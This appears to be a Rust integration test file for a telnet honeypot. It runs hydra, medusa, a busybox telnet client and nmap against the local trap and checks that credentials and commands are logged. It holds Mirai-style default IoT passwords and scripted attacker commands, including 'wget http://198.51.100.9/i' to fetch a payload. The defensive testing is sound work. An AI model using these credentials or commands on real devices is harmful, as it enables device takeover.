//! Password guessers and a telnet client at the telnet trap.

use crate::support::{Traps, nmap, printed, run, run_until_it_leaves};
use honeymesh_trap_proto::Definition;
use honeymesh_types::Signs;

fn letting_in(let_in: u8) -> Traps {
    Traps::one(&Definition { service: "telnet".into(), let_in: Some(let_in), ..Definition::default() })
}

fn owned(tries: &[(&str, &str)]) -> Vec<(String, String)> {
    tries.iter().map(|(user, password)| ((*user).into(), (*password).into())).collect()
}

/// hydra ends its lines with CR NUL. Its version 9.4 spoils the second pair of one connection by itself, so each has its own.
#[tokio::test(flavor = "multi_thread")]
async fn hydra_gives_its_passwords_away() {
    let mut traps = letting_in(0);
    let url = format!("telnet://127.0.0.1:{}", traps.port("telnet"));
    let pairs = std::env::temp_dir().join(format!("hydra-pairs-{}", std::process::id()));
    std::fs::write(&pairs, "admin:vizxv\nroot:xc3511\nsupport:hunter2\n").unwrap();
    let output = run("hydra", &["-I", "-t", "3", "-C", pairs.to_str().unwrap(), &url]).await;
    std::fs::remove_file(&pairs).unwrap();
    assert!(printed(&output).contains("0 valid password"), "{}", printed(&output));
    let mut tries = traps.tries("telnet", 3).await;
    tries.sort();
    assert_eq!(tries, owned(&[("admin", "vizxv"), ("root", "xc3511"), ("support", "hunter2")]));
}

/// medusa makes each try in a connection of its own.
#[tokio::test(flavor = "multi_thread")]
async fn medusa_believes_that_it_was_let_in() {
    let mut traps = letting_in(1);
    let port = traps.port("telnet").to_string();
    let output = run("medusa", &["-h", "127.0.0.1", "-n", &port, "-u", "root", "-p", "juantech", "-M", "telnet"]).await;
    assert!(printed(&output).contains("ACCOUNT FOUND"), "{}", printed(&output));
    assert_eq!(traps.tries("telnet", 1).await, owned(&[("root", "juantech")]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_telnet_client_gets_a_shell_at_the_second_try_and_its_commands_are_told() {
    let mut traps = letting_in(2);
    let port = traps.port("telnet").to_string();
    let lines = [
        "root\r",
        "one\r",
        "root\r",
        "two\r",
        "sh\r",
        "/bin/busybox MIRAI\r",
        "wget http://198.51.100.9/i\r",
        "exit\r",
        "exit\r",
    ];
    let said = printed(&run_until_it_leaves("busybox", &["telnet", "127.0.0.1", &port], &lines).await);
    assert!(said.contains("gateway login: ") && said.contains("Login incorrect"), "{said}");
    assert!(said.contains("MIRAI: applet not found"), "{said}");
    assert_eq!(traps.tries("telnet", 2).await, owned(&[("root", "one"), ("root", "two")]));
    for command in ["sh", "/bin/busybox MIRAI", "wget http://198.51.100.9/i"] {
        let visit = traps.visit().await;
        assert_eq!((visit.fields["command"].as_str(), visit.signs), (command, Signs::RULE));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nmap_takes_it_for_busybox() {
    let traps = letting_in(2);
    let port = traps.port("telnet").to_string();
    nmap(&["-sV", "--script", "default", "-Pn", "-n", "-p", &port, "127.0.0.1"], &["BusyBox telnetd"]).await;
}
